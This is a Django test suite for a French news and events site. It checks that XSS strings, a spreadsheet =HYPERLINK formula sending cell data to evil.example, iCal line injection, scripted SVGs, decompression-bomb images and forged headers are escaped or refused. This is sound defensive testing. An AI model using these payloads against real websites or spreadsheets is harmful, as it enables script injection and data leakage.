"""Hostile input typed into the admin by a Communication user, then read back on every public surface."""

import csv
import io
import json
import re
import struct
import zlib
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import icalendar
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, TestCase
from django.utils.html import escape
from PIL import Image

from events.models import Event, ProgrammeItem
from news.models import Article
from people.models import Organisation, Person
from tests.factories import image_bytes, make_article, make_user

SCRIPT = '<script>alert("xss")</script>'
HANDLER = "<img src=x onerror=alert(1)>"
SVG = "<svg onload=alert(1)>"
ENCODED = "&lt;img src=x onerror=alert(2)&gt;"
TEXT = f"{SCRIPT}{HANDLER}{ENCODED}"
RICH = (
    '<p>Texte<script>alert(1)</script><img src=x onerror=alert(1)>'
    '<a href="javascript:alert(1)" onclick="alert(1)">lien</a><iframe src="//evil.example"></iframe></p>'
)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


class LiveMarkup(HTMLParser):
    """Elements and attributes a browser would run: scripts, handlers, frames, javascript: links."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script" and attrs.get("type") != "application/ld+json" or tag in ("iframe", "object", "embed"):
            self.found.append(tag)
        if tag == "img" and attrs.get("src") == "x":
            self.found.append("img src=x")
        for name, value in attrs.items():
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"{tag} {name}={value}")


def management_form(prefix, total):
    return {f"{prefix}-TOTAL_FORMS": str(total), f"{prefix}-INITIAL_FORMS": "0",
            f"{prefix}-MIN_NUM_FORMS": "0", f"{prefix}-MAX_NUM_FORMS": "1000"}


def assert_no_live_markup(test, html, where):
    parser = LiveMarkup()
    parser.feed(html)
    test.assertEqual(parser.found, [], f"live markup on {where}")


class HostileContentTests(TestCase):
    """Every text field of every model, filled with script and event-handler payloads through the admin."""

    @classmethod
    def setUpTestData(cls):
        cls.editor = make_user(group="Communication")
        admin = Client()
        admin.force_login(cls.editor)
        cls.post(admin, "/admin/people/organisation/add/", {
            "name": f"Org {TEXT}", "acronym": SVG, "slug": "", "kind": "network",
            "city": f"Lens {HANDLER}", "country": f"France {SCRIPT}", "website": "",
        })
        cls.organisation = Organisation.objects.get()
        cls.post(admin, "/admin/people/person/add/", {
            "first_name": f"Camille {SVG}", "last_name": f"Martin {SCRIPT}", "slug": "",
            "job_title": FORMULA + HANDLER, "organisation": str(cls.organisation.pk),
            "is_public": "on", "bio": RICH, "tags": f'"friches {SVG}", friches',
            "email": "camille@example.org", "phone": "=1+1",
        })
        cls.person = Person.objects.get()
        cls.post(admin, "/admin/events/event/add/", {
            "title": f"Congrès {TEXT}\r\nEND:VEVENT", "slug": "", "kind": "congress",
            "summary": f"Résumé {TEXT}", "description": RICH, "tags": "friches",
            "timezone": "America/Toronto", "start_0": "2099-05-07", "start_1": "08:30",
            "end_0": "2099-05-08", "end_1": "17:00",
            "venue": f"Centre {SCRIPT}", "address": f"1 rue {HANDLER}", "city": f"Thetford {SVG}",
            "region": f"Québec {ENCODED}", "country": f"Canada {SCRIPT}",
            "organisers": [str(cls.organisation.pk)], "website": "",
            "image_alt": f"Alt {HANDLER}", "image_credit": f"Crédit {SCRIPT}",
            "status": "published", "published_at_0": "2020-01-01", "published_at_1": "09:00",
            **management_form("programme", 1),
            "programme-0-title": f"Séance {TEXT}", "programme-0-kind": "talk",
            "programme-0-start_0": "2099-05-07", "programme-0-start_1": "10:00",
            "programme-0-place": f"Salle {SVG}", "programme-0-description": f"Détail {TEXT}",
            "programme-0-speakers": [str(cls.person.pk)],
            **management_form("participations", 1),
            "participations-0-person": str(cls.person.pk), "participations-0-role": "speaker",
            "participations-0-talk_title": FORMULA + SCRIPT, "participations-0-status": "confirmed",
            "participations-0-notes": f"Note {SCRIPT}",
        })
        cls.event = Event.objects.get()
        cls.post(admin, "/admin/news/article/add/", {
            "title": f"Article {TEXT}", "slug": "", "standfirst": f"Chapeau {TEXT}", "body": RICH,
            "tags": "friches", "image_alt": f"Alt {HANDLER}", "image_credit": f"Crédit {SCRIPT}",
            "related_events": [str(cls.event.pk)], "related_people": [str(cls.person.pk)],
            "status": "published", "published_at_0": "2020-01-01", "published_at_1": "09:00",
        })
        cls.article = Article.objects.get()

    @staticmethod
    def post(client, url, data):
        response = client.post(url, data)
        assert response.status_code == 302, (url, response.context and [
            form.errors for form in [response.context.get("adminform").form] if form.errors
        ])

    def page(self, url, status=200):
        response = self.client.get(url)
        self.assertEqual(response.status_code, status, url)
        return response.content.decode()

    def assert_safe_page(self, url):
        html = self.page(url)
        assert_no_live_markup(self, html, url)
        for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.S):
            self.assertNotIn("<", block, f"raw < in JSON-LD on {url}")
            json.loads(block)
        return html

    # What was stored

    def test_every_text_was_stored_as_typed_and_rich_text_sanitised(self):
        self.assertEqual(self.article.title, f"Article {TEXT}")
        self.assertEqual(self.person.last_name, f"Martin {SCRIPT}")
        for html in (self.article.body, self.event.description, self.person.bio):
            self.assertEqual(html, "<p>Texte<a>lien</a></p>")
        self.assertEqual(ProgrammeItem.objects.get().description, f"Détail {TEXT}")

    def test_a_javascript_url_is_refused_as_a_website(self):
        self.client.force_login(self.editor)
        response = self.client.post(f"/admin/people/organisation/{self.organisation.pk}/change/", {
            "name": "Org", "slug": self.organisation.slug, "kind": "network", "website": "javascript:alert(1)",
        })
        self.assertEqual(response.status_code, 200)
        self.assertTrue(response.context["adminform"].form.errors["website"])
        self.assertEqual(Organisation.objects.get().website, "")

    # Public pages: each shows the text escaped, nothing live

    def test_home(self):
        self.assertIn("Article &lt;script&gt;", self.assert_safe_page("/"))

    def test_article_list(self):
        self.assertIn("Chapeau &lt;script&gt;", self.assert_safe_page("/actualites/"))

    def test_article_year_and_tag_lists(self):
        self.assert_safe_page("/actualites/annee/2020/")
        self.assert_safe_page("/actualites/etiquette/friches/")

    def test_article_detail_and_its_json_ld(self):
        html = self.assert_safe_page(self.article.get_absolute_url())
        self.assertIn("Article &lt;script&gt;", html)
        data = json.loads(re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.S).group(1))
        self.assertEqual(data["headline"], self.article.title)

    def test_article_share_metadata(self):
        html = self.page(self.article.get_absolute_url())
        for meta in re.findall(r"<meta [^>]*>", html):
            self.assertNotRegex(meta, r'content="[^"]*<', meta)

    def test_event_list(self):
        self.assertIn("Congrès &lt;script&gt;", self.assert_safe_page("/agenda/"))

    def test_event_detail_and_its_json_ld(self):
        html = self.assert_safe_page(self.event.get_absolute_url())
        self.assertIn("Séance &lt;script&gt;", html)
        self.assertNotIn("Note ", html)
        data = json.loads(re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.S).group(1))
        self.assertEqual(data["name"], self.event.title)

    def test_person_list(self):
        self.assertIn("Martin &lt;script&gt;", self.assert_safe_page("/personnes/"))

    def test_person_detail_and_its_json_ld(self):
        self.assert_safe_page(self.person.get_absolute_url())

    def test_tag_pages(self):
        self.assert_safe_page("/etiquettes/friches/")
        for tag in self.person.tags.all():
            self.assert_safe_page(f"/etiquettes/{tag.slug}/")

    def test_search_results_and_the_query_echoed(self):
        self.assert_safe_page("/recherche/?q=Article")
        html = self.assert_safe_page("/recherche/?q=" + SCRIPT)
        self.assertIn("&lt;script&gt;", html)

    def test_sitemaps(self):
        for url in ("/sitemap.xml", "/sitemap-actualites.xml", "/sitemap-agenda.xml", "/sitemap-personnes.xml"):
            ElementTree.fromstring(self.page(url))

    # Feeds: well-formed XML, titles intact, descriptions (HTML for feed readers) harmless

    def assert_safe_feed(self, url, title):
        root = ElementTree.fromstring(self.page(url))
        texts = [element.text or "" for element in root.iter()]
        self.assertIn(title.replace("\r\n", "\n"), texts)
        descriptions = [
            element.text or "" for element in root.iter()
            if element.tag.rsplit("}", 1)[-1] in ("description", "summary", "content")
        ]
        self.assertTrue(descriptions)
        for html in descriptions:
            assert_no_live_markup(self, html, url)

    def test_news_rss(self):
        """RSS titles are escaped once more: readers read them as HTML (Django's default)."""
        self.assert_safe_feed("/actualites/flux.rss", escape(self.article.title))

    def test_news_atom(self):
        self.assert_safe_feed("/actualites/flux.atom", self.article.title)

    def test_events_rss(self):
        self.assert_safe_feed("/agenda/flux.rss", escape(self.event.title))

    def test_events_atom(self):
        self.assert_safe_feed("/agenda/flux.atom", self.event.title)

    # Calendar files: one event each, the text kept as text, no line injected

    def test_event_calendar_file(self):
        calendar = icalendar.Calendar.from_ical(self.page(f"/agenda/{self.event.slug}.ics"))
        events = calendar.walk("VEVENT")
        self.assertEqual(len(events), 1)
        self.assertEqual(str(events[0]["SUMMARY"]).replace("\r\n", "\n"), self.event.title.replace("\r\n", "\n"))
        self.assertNotIn("Note ", str(events[0].get("DESCRIPTION", "")))

    def test_agenda_calendar_file(self):
        calendar = icalendar.Calendar.from_ical(self.page("/agenda/agenda.ics"))
        self.assertEqual(len(calendar.walk("VEVENT")), 1)

    # CSV: formulas defused for Excel and LibreOffice

    def test_participant_export_defuses_formulas(self):
        self.client.force_login(self.editor)
        for format in ("excel", "csv"):
            response = self.client.post(f"/admin/events/event/{self.event.pk}/export/?format={format}")
            self.assertEqual(response.status_code, 200)
            text = b"".join(response.streaming_content).decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text), delimiter=";" if format == "excel" else ","))
            cells = [cell for row in rows[1:] for cell in row]
            self.assertIn("'" + FORMULA + SCRIPT, cells)
            self.assertIn("'=1+1", cells)
            self.assertFalse([cell for cell in cells if cell.startswith(("=", "+", "-", "@"))])


def png_header(width, height):
    """A PNG that only claims its size: enough for Pillow's decompression bomb check."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b""))


class HostileUploadTests(TestCase):
    """Each bad upload is a clear form error or a 400: never a 500, never a stored file."""

    @classmethod
    def setUpTestData(cls):
        cls.editor = make_user(group="Communication")

    def setUp(self):
        self.client.force_login(self.editor)

    def tearDown(self):
        stored = [path for path in Path(settings.MEDIA_ROOT).rglob("*") if path.is_file()]
        self.assertEqual(stored, [], "a refused upload left a file behind")

    def add_article(self, image, **extra):
        return self.client.post("/admin/news/article/add/", {
            "title": "Avec une image", "status": "draft", "image": image, "image_alt": "Une image", **extra,
        })

    def assert_refused(self, image, *codes):
        response = self.add_article(image)
        self.assertEqual(response.status_code, 200)
        errors = response.context["adminform"].form.errors.as_data().get("image", [])
        self.assertIn(errors[0].code if errors else None, codes)
        self.assertFalse(Article.objects.exists())

    def test_a_text_file_named_jpg(self):
        self.assert_refused(
            SimpleUploadedFile("photo.jpg", b"not an image at all", content_type="image/jpeg"), "invalid_image"
        )

    def test_a_truncated_jpeg(self):
        data = image_bytes("JPEG", size=(800, 600))
        self.assert_refused(SimpleUploadedFile("coupee.jpg", data[: len(data) // 2], content_type="image/jpeg"), "incomplete")

    def test_an_svg_with_a_script(self):
        svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
        self.assert_refused(SimpleUploadedFile("logo.svg", svg, content_type="image/svg+xml"), "invalid_image", "format")

    def test_an_svg_named_png(self):
        svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(2)</script></svg>'
        self.assert_refused(SimpleUploadedFile("logo.png", svg, content_type="image/png"), "invalid_image")

    def test_a_gif(self):
        buffer = io.BytesIO()
        Image.new("RGB", (10, 10)).save(buffer, "GIF")
        self.assert_refused(SimpleUploadedFile("anim.gif", buffer.getvalue(), content_type="image/gif"), "format")

    def test_a_decompression_bomb_between_one_and_two_times_pillows_limit(self):
        side = int((Image.MAX_IMAGE_PIXELS * 1.5) ** 0.5)
        self.assert_refused(SimpleUploadedFile("bombe.png", png_header(side, side), content_type="image/png"), "too_many_pixels")

    def test_a_decompression_bomb_above_twice_pillows_limit(self):
        side = int((Image.MAX_IMAGE_PIXELS * 3) ** 0.5)
        # Django's ImageField already refuses it as "not a valid image", before our validator runs.
        self.assert_refused(
            SimpleUploadedFile("bombe.png", png_header(side, side), content_type="image/png"),
            "too_many_pixels", "invalid_image",
        )

    def test_an_oversized_file(self):
        data = image_bytes("JPEG", size=(64, 64)) + b"\0" * (settings.MAX_IMAGE_UPLOAD_BYTES + 1)
        self.assert_refused(SimpleUploadedFile("lourde.jpg", data, content_type="image/jpeg"), "too_large")

    def test_an_oversized_picture_for_a_person_and_an_organisation(self):
        for url, field, data in (
            ("/admin/people/person/add/", "photo", {"first_name": "A", "last_name": "B"}),
            ("/admin/people/organisation/add/", "logo", {"name": "Org", "kind": "other"}),
        ):
            response = self.client.post(url, {**data, field: SimpleUploadedFile("x.jpg", b"GIF89a", "image/jpeg")})
            self.assertEqual(response.status_code, 200, url)
            self.assertIn(field, response.context["adminform"].form.errors)
        self.assertFalse(Person.objects.exists() or Organisation.objects.exists())

    def test_101_files_in_one_request(self):
        files = {f"image{n}": SimpleUploadedFile(f"{n}.jpg", b"x", "image/jpeg") for n in range(101)}
        response = self.add_article(files.pop("image0"), **files)
        self.assertEqual(response.status_code, 400)
        self.assertFalse(Article.objects.exists())

    def test_1001_fields_are_ignored_by_the_form(self):
        junk = {f"champ{n}": "x" for n in range(1001)}
        response = self.add_article("", **junk)
        self.assertEqual(response.status_code, 302)
        self.assertEqual(Article.objects.get().title, "Avec une image")

    def test_more_fields_than_the_limit(self):
        junk = {f"champ{n}": "x" for n in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)}
        response = self.add_article("", **junk)
        self.assertEqual(response.status_code, 400)
        self.assertFalse(Article.objects.exists())

    def test_a_request_body_over_the_memory_limit(self):
        response = self.add_article("", standfirst="x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1))
        self.assertEqual(response.status_code, 400)
        self.assertFalse(Article.objects.exists())


class BigEventTests(TestCase):
    """The field limit leaves room for a congress: 60 programme items and 60 speakers in one save."""

    def test_a_congress_page_with_full_inlines_saves_under_the_field_limit(self):
        from tests.factories import make_event, make_participation, make_person, make_programme_item

        editor = make_user(group="Communication")
        event = make_event(title="Grand congrès")
        items = [make_programme_item(event) for _ in range(60)]
        parts = [make_participation(event, make_person()) for _ in range(60)]
        self.client.force_login(editor)
        response = self.client.get(f"/admin/events/event/{event.pk}/change/")
        data = form_data(response)
        self.assertGreater(len(data), 1000)
        self.assertLess(len(data), settings.DATA_UPLOAD_MAX_NUMBER_FIELDS)
        data["title"] = "Grand congrès international"
        response = self.client.post(f"/admin/events/event/{event.pk}/change/", data)
        self.assertEqual(response.status_code, 302)
        self.assertEqual(Event.objects.get().title, "Grand congrès international")
        self.assertEqual(event.programme.count(), len(items))
        self.assertEqual(event.participations.count(), len(parts))


def form_data(response):
    """The fields a browser would submit from the admin page's form, as a flat dict of lists."""
    from django.http import QueryDict

    html = response.content.decode()
    form = html[html.index('<form enctype="multipart/form-data"'):]
    form = form[: form.index("</form>")]
    data = QueryDict(mutable=True)
    from html.parser import HTMLParser

    class Fields(HTMLParser):
        select = None
        textarea = None

        def handle_starttag(self, tag, attrs):
            attrs = dict(attrs)
            name = attrs.get("name")
            if tag == "input" and name and attrs.get("type") not in ("submit", "file", "button"):
                if attrs.get("type") == "checkbox" and "checked" not in attrs:
                    return
                data.appendlist(name, attrs.get("value", ""))
            elif tag == "select" and name:
                self.select = name
            elif tag == "option" and self.select and "selected" in attrs:
                data.appendlist(self.select, attrs.get("value", ""))
            elif tag == "textarea" and name:
                self.textarea = name
                data.appendlist(name, "")

        def handle_data(self, text):
            if self.textarea:
                values = data.getlist(self.textarea)
                values[-1] += text
                data.setlist(self.textarea, values)

        def handle_endtag(self, tag):
            if tag == "select":
                self.select = None
            elif tag == "textarea":
                self.textarea = None

    Fields().feed(form)
    return data


class CsrfTests(TestCase):
    """A form posted from elsewhere, without the token, is refused."""

    @classmethod
    def setUpTestData(cls):
        cls.editor = make_user(group="Communication", password="mot-de-passe-solide-2025")
        cls.article = make_article(title="Article")

    def setUp(self):
        self.client = Client(enforce_csrf_checks=True)

    def test_admin_login_without_token(self):
        response = self.client.post("/admin/login/", {"username": self.editor.username, "password": "mot-de-passe-solide-2025"})
        self.assertEqual(response.status_code, 403)
        self.assertContains(response, "Le formulaire n’a pas pu être envoyé", status_code=403)
        self.assertContains(response, "autorisez les cookies pour ce site", status_code=403)  # none was sent
        self.assertContains(response, 'rel="stylesheet"', status_code=403)  # the site's page, no inline style

    def test_admin_save_without_token(self):
        self.client.force_login(self.editor)
        response = self.client.post(f"/admin/news/article/{self.article.pk}/change/", {"title": "Piraté", "status": "draft"})
        self.assertEqual(response.status_code, 403)
        self.assertEqual(Article.objects.get().title, "Article")

    def test_admin_action_without_token(self):
        self.client.force_login(self.editor)
        response = self.client.post("/admin/news/article/", {"action": "unpublish", "_selected_action": [self.article.pk]})
        self.assertEqual(response.status_code, 403)
        self.assertTrue(Article.objects.published().exists())

    def test_a_stale_form_says_to_reload_it(self):
        self.client.cookies["csrftoken"] = "a" * 32  # a cookie, not the one the form was made with
        data = {"csrfmiddlewaretoken": "b" * 32, "username": self.editor.username, "password": "mot-de-passe-solide-2025"}
        response = self.client.post("/admin/login/", data)
        self.assertContains(response, "rechargez la page du formulaire", status_code=403)

    def test_a_page_outside_ones_permissions_says_so_in_french(self):
        self.client.force_login(self.editor)
        response = self.client.get(f"/admin/news/article/{self.article.pk}/delete/")  # editors may not delete
        self.assertContains(response, "Accès refusé", status_code=403)

    def test_logout_without_token(self):
        self.client.force_login(self.editor)
        self.assertEqual(self.client.post("/admin/logout/").status_code, 403)
        self.assertIn("_auth_user_id", self.client.session)


class HostileRequestTests(TestCase):
    """Odd requests are client errors."""

    def test_a_forged_host_header(self):
        response = self.client.get("/", headers={"host": "evil.example"})
        self.assertContains(response, "Requête invalide", status_code=400)

    def test_a_nul_byte_in_a_slug(self):
        self.assertEqual(self.client.get("/actualites/abc%00def/").status_code, 404)
        self.assertEqual(self.client.get("/agenda/abc%00def.ics").status_code, 404)

    def test_an_overlong_slug(self):
        self.assertEqual(self.client.get("/personnes/" + "a" * 5000 + "/").status_code, 404)

    def test_a_search_far_too_long(self):
        self.assertEqual(self.client.get("/recherche/", {"q": "friches " * 2000}).status_code, 200)
